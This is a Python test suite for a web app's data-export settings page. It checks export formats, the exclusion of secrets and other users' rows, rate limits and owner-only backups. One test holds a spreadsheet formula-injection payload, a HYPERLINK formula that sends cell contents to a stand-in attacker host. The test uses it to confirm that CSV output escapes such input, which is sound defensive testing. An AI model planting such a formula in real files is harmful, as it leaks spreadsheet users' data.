"""Settings, export: one's own rows as a file to keep, whole and without anybody's secrets."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import sqlite3
import zipfile
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from local_instance import Guest, LocalInstance, serve
from small_world import ALICE, ATLAS, BOB, MALLORY, NOW, enter, fill, reader
from sqlalchemy import Table, insert, update

from trackeep.environment import cookie_name
from trackeep.store import exports, people
from trackeep.store.schema import metadata
from trackeep.store.tables import account, connection, pending_arrival, session
from trackeep.store.tables_fetched import commit
from trackeep.store.tables_tokens import api_token

pytestmark = pytest.mark.anyio
NOWHERE = "http://127.0.0.1:9"
FORMATS = ("jsonl", "csv", "sqlite")
MARK = "nobody-may-ever-see-this"


@asynccontextmanager
async def visit(folder: Path, account_id: int = ALICE) -> AsyncIterator[tuple[LocalInstance, Guest]]:
    async with serve(folder, NOWHERE) as instance, Guest(instance.url, "") as guest:
        instance.clock.ahead_s = NOW - instance.site.now()
        await fill(instance.site.db)
        await enter(instance, guest, account_id)
        yield instance, guest


async def download(instance: LocalInstance, guest: Guest, kind: str) -> tuple[Mapping[str, str], bytes]:
    """The file as a browser gets it from the form of the page."""
    name = cookie_name(instance.site.settings.base_url, "session")
    cookie, origin = guest.cookies["localhost"][name], instance.site.settings.origin
    async with aiohttp.ClientSession() as http:
        headers = {"cookie": f"{name}={cookie}", "origin": origin}
        url = f"{instance.url}/settings/export"
        async with http.post(url, data={"format": kind}, headers=headers) as answer:
            assert answer.status == 200, await answer.text()
            return answer.headers.copy(), await answer.read()


def tables_in(kind: str, content: bytes, folder: Path) -> dict[str, list[dict[str, Any]]]:
    """Every table of a downloaded file."""
    if kind == "sqlite":
        file = folder / "downloaded.db"
        file.write_bytes(content)
        with contextlib.closing(sqlite3.connect(file)) as conn:
            conn.row_factory = sqlite3.Row
            names = [row["name"] for row in conn.execute("select name from sqlite_master where type='table'")]
            select = "select * from '{}'"
            return {name: [dict(row) for row in conn.execute(select.format(name))] for name in names}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        texts = {name.partition(".")[0]: archive.read(name).decode() for name in archive.namelist()}
    if kind == "csv":
        return {name: list(csv.DictReader(io.StringIO(text))) for name, text in texts.items()}
    return {name: [json.loads(line) for line in text.splitlines()] for name, text in texts.items()}


@pytest.mark.parametrize("kind", FORMATS)
async def test_the_file_holds_what_one_may_read(tmp_path: Path, kind: str) -> None:
    """Each format has all tables with the rows of the store's own reading; nothing is left behind."""
    async with visit(tmp_path) as (instance, alice):
        headers, content = await download(instance, alice, kind)
        async with instance.site.db.read() as conn:
            expected = {
                table.name: [row async for block in exports.rows(conn, reader(), table) for row in block]
                for table in exports.EXPORTED
            }
        assert not list(tmp_path.glob(".export-*"))
    assert headers["content-disposition"].startswith('attachment; filename="trackeep')
    found = tables_in(kind, content, tmp_path)
    assert {name: len(rows) for name, rows in found.items()} == {n: len(r) for n, r in expected.items()}
    assert sorted(row["sha"] for row in found["commit"]) == sorted(row["sha"] for row in expected["commit"])
    if kind == "jsonl":
        assert found == expected
    assert b"secret-plan" not in content and "secret" not in str(found)


def filled(table: Table, account_id: int) -> dict[str, Any]:
    """A row of `table` that belongs to `account_id` and has the mark wherever text or bytes can stand."""
    values: dict[str, Any] = {}
    for column in table.columns:
        python = column.type.python_type
        if column.name in ("account_id", "id") and python is int:
            values[column.name] = account_id
        elif column.foreign_keys:
            values[column.name] = ATLAS if "repository" in column.name else account_id
        else:
            values[column.name] = {str: MARK, bytes: MARK.encode()}.get(python, 1)
    return values


@pytest.mark.parametrize("kind", FORMATS)
async def test_no_secret_and_nobody_elses_settings(tmp_path: Path, kind: str) -> None:
    """With a mark in every text of every table that is not one's rows from GitHub, no file holds the mark."""
    async with visit(tmp_path) as (instance, alice):
        async with instance.site.db.write() as conn:
            kept = {each.name for each in (*exports.EXPORTED, account, session, connection)}
            for table in (each for each in metadata.sorted_tables if each.name not in kept):
                row = {**filled(table, BOB), **({"id": 7} if table.name == "instance" else {})}
                keys = table.primary_key.columns
                await conn.execute(table.delete().where(*(column == row[column.name] for column in keys)))
                await conn.execute(insert(table), [row])
            await conn.execute(update(connection).values(access_token=MARK.encode(), problem=MARK))
            await conn.execute(update(account).values(heatmap=MARK))
            await conn.execute(update(session).values(user_agent=MARK))
        assert {pending_arrival, api_token} <= set(metadata.tables.values())
        _, content = await download(instance, alice, kind)
    assert MARK not in str(tables_in(kind, content, tmp_path)) and MARK.encode() not in content


async def test_a_cell_is_no_formula(tmp_path: Path) -> None:
    """What mallory wrote into a commit is no formula in the CSV file, and unchanged in the others."""
    forged = '=HYPERLINK("https://mallory.example/?"&A1)'
    async with visit(tmp_path) as (instance, alice):
        async with instance.site.db.write() as conn:
            await conn.execute(update(commit).where(commit.c.sha == "a1").values(message=forged))
        messages = {}
        for kind in FORMATS:
            _, content = await download(instance, alice, kind)
            messages[kind] = {row["message"] for row in tables_in(kind, content, tmp_path)["commit"]}
    assert f"'{forged}" in messages["csv"] and forged not in messages["csv"]
    assert forged in messages["jsonl"] and forged in messages["sqlite"]


async def test_mallory_gets_nothing_but_herself(tmp_path: Path) -> None:
    """Whoever may read nothing has a file with one row: their own name."""
    async with visit(tmp_path, MALLORY) as (instance, mallory):
        _, content = await download(instance, mallory, "jsonl")
    found = tables_in("jsonl", content, tmp_path)
    assert [row["login"] for row in found.pop("person")] == ["mallory"]
    assert not any(found.values())


async def test_what_cannot_be_downloaded(tmp_path: Path) -> None:
    """An unknown format is refused in words; so is the thirteenth file within ten minutes."""
    async with visit(tmp_path) as (instance, alice):
        refused = await alice.send("/settings/export", {"format": "xml"})
        assert refused.status == 400 and "in which format" in refused.text
        for _ in range(12):
            await download(instance, alice, "jsonl")
        many = await alice.send("/settings/export", {"format": "jsonl"})
        assert many.status == 429
        instance.clock.ahead_s += 601
        await download(instance, alice, "jsonl")


async def test_backups_are_the_owners(tmp_path: Path) -> None:
    """The owner sees the backups and makes one; nobody else learns that there are any."""
    async with visit(tmp_path) as (instance, alice), Guest(instance.url, "", "bob") as bob:
        async with instance.site.db.write() as conn:
            await people.make_owner(conn, ALICE)
        await enter(instance, bob, BOB)
        assert "No backups yet" in (await alice.open("/settings/export")).text
        done = await alice.send("/settings/export/backup", {})
        assert done.status == 303
        (made,) = (tmp_path / "backups").iterdir()
        shown = (await alice.open("/settings/export?done=backup")).text
        assert made.name in shown and "A backup was made" in shown
        theirs = await bob.open("/settings/export")
        assert theirs.status == 200 and "ackup" not in theirs.text
        assert (await bob.send("/settings/export/backup", {})).status == 403
    with contextlib.closing(sqlite3.connect(made)) as conn:
        assert conn.execute("pragma integrity_check").fetchone() == ("ok",)


async def test_the_page_says_how_often(tmp_path: Path) -> None:
    """What is set is what the owner reads."""
    async with serve(tmp_path, NOWHERE, backup_hours="6", backup_keep="9") as instance:
        await fill(instance.site.db, instance.site.now())
        async with instance.site.db.write() as conn:
            await people.make_owner(conn, ALICE)
        async with Guest(instance.url, "") as alice:
            await enter(instance, alice)
            shown = (await alice.open("/settings/export")).text
    assert "Every 6 hours; the newest 9 stay" in shown
